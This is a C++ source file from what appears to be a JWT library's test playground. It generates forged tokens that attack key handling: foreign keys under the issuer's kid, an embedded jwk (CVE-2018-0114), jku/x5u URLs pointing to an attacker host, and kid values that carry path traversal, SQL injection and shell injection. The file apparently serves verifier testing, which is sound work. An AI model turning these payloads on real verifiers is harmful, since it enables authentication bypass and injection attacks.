// SPDX-FileCopyrightText: 2026 The Tessera developers
// SPDX-License-Identifier: GPL-3.0-or-later
#include "jose/jwk.h"
#include "playground/attackcontext.h"

#include <QJsonArray>

namespace tessera::playground {

QList<Attack> attacksOnKeys(const AttackContext &context)
{
    QList<Attack> all;
    const jose::SigningKey &key = context.material().attackerKey;
    const QByteArray forged = compact(context.forgedClaims());
    const QString alg = jose::name(key.algorithm());
    const QString theirs = key.kid().toText();
    const QJsonObject jwk = jose::publicJwk(key.publicKey(), key.algorithm(), key.kid());
    const auto signedWith = [&](QJsonObject changes) {
        changes.insert(QStringLiteral("alg"), alg);
        return signedToken(context.headerWith(changes), forged, key);
    };

    all.append({QStringLiteral("key-same-kid"), QStringLiteral("Signed by another key under the issuer's kid."),
        QStringLiteral("RFC 7515 5.2"), signedWith({})});
    all.append({QStringLiteral("key-unknown-kid"), QStringLiteral("Signed by another key under a kid of its own."),
        QStringLiteral("RFC 7515 4.1.4"), signedWith({{QStringLiteral("kid"), theirs}})});
    all.append({QStringLiteral("key-no-kid"), QStringLiteral("Signed by another key, without a kid."),
        QStringLiteral("RFC 7515 4.1.4"), signedWith({{QStringLiteral("kid"), QJsonValue::Null}})});
    all.append({QStringLiteral("embedded-jwk"), QStringLiteral("Brings its own key in the header (CVE-2018-0114)."),
        QStringLiteral("RFC 8725 3.10"), signedWith({{QStringLiteral("jwk"), jwk}})});
    all.append({QStringLiteral("embedded-jwk-own-kid"), QStringLiteral("The same, under the kid of that key."),
        QStringLiteral("RFC 8725 3.10"), signedWith({{QStringLiteral("jwk"), jwk}, {QStringLiteral("kid"), theirs}})});
    for (const QString &member : {QStringLiteral("jku"), QStringLiteral("x5u")}) {
        all.append({member, QStringLiteral("Says with %1 that its key is at an address of the attacker's.").arg(member),
            QStringLiteral("RFC 8725 3.10"),
            signedWith(
                {{member, QStringLiteral("https://attacker.invalid/jwks.json")}, {QStringLiteral("kid"), theirs}})});
    }
    all.append({QStringLiteral("x5c"), QStringLiteral("Brings a certificate chain in the header."),
        QStringLiteral("RFC 8725 3.10"),
        signedWith({{QStringLiteral("x5c"), QJsonArray{QStringLiteral("MIIBszCCAVmgAwIBAgIUQQ==")}}})});

    // What a verifier does with a kid: open a file of that name, ask a database for it, run it.
    const auto hmac = [&](const QString &kid, const QByteArray &secret) {
        return hmacToken(
            context.headerWith({{QStringLiteral("alg"), QStringLiteral("HS256")}, {QStringLiteral("kid"), kid}}),
            forged, secret);
    };
    all.append(
        {QStringLiteral("kid-path"), QStringLiteral("A kid that leads to an empty file, HS256 with what is in it."),
            QStringLiteral("RFC 8725 3.10"), hmac(QStringLiteral("../../../../../../dev/null"), {})});
    all.append({QStringLiteral("kid-sql"), QStringLiteral("A kid that makes a database answer the attacker's secret."),
        QStringLiteral("RFC 8725 3.10"), hmac(QStringLiteral("' UNION SELECT 'attacker' -- "), "attacker")});
    all.append({QStringLiteral("kid-command"), QStringLiteral("A kid that a shell would run."),
        QStringLiteral("RFC 8725 3.10"), hmac(QStringLiteral("|echo attacker"), "attacker\n")});
    all.append({QStringLiteral("kid-not-text"), QStringLiteral("A kid that is a list."),
        QStringLiteral("RFC 7515 4.1.4"), signedWith({{QStringLiteral("kid"), QJsonArray{theirs}}})});
    return all;
}

} // namespace tessera::playground
